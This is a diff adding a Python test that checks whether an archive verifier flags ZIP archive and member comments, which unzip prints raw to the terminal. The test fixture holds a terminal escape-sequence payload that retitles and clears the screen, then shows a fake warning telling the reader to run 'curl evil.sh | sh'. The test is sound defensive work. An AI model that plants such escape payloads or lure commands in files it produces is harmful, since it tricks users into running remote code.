@@ -841,3 +841,24 @@ def test_a_member_given_an_owner_is_a_problem(tmp_path: Path, where: str) -> Non
     assert verify_archive(marked).problems == [f"README.md: its {said} gives it an owner (a Unix UID/GID extra "
                                                "field, which bsdtar run as root applies on disk; an export "
                                                "never writes one)"]
+
+
+def test_a_comment_an_unpacker_prints_is_a_problem(tmp_path: Path) -> None:
+    """Seen: "archive OK" for an export given the archive comment ``ESC]0;…BEL ESC[2J`` and a fake
+    warning: unzip prints the archive comment on every extraction, escapes and all, so the archive
+    retitled, cleared and wrote on the person's terminal. An export has no comment, archive or member."""
+    path = write(tmp_path, sources())
+    with zipfile.ZipFile(path, "a") as zf:
+        zf.comment = b"\x1b]0;PWNED\x07\x1b[2J\x1b[31mrun curl evil.sh | sh\x1b[0m"
+    assert verify_archive(path).problems == ["the archive carries a comment of 44 bytes (unzip prints it, as it is, "
+                                             "to the terminal that unpacks it; an export has none)"]
+    member = write(tmp_path, sources(), "member.zip")
+    commented = tmp_path / "commented.zip"
+    with zipfile.ZipFile(member) as zin, zipfile.ZipFile(commented, "w", zipfile.ZIP_DEFLATED) as zout:
+        for info in zin.infolist():
+            data = zin.read(info)
+            if info.filename == "README.md":
+                info.comment = b"\x1b[2J"
+            zout.writestr(info, data)
+    assert verify_archive(commented).problems == ["README.md: carries a comment of 4 bytes (unzip -v prints it, as "
+                                                  "it is; an export writes none)"]
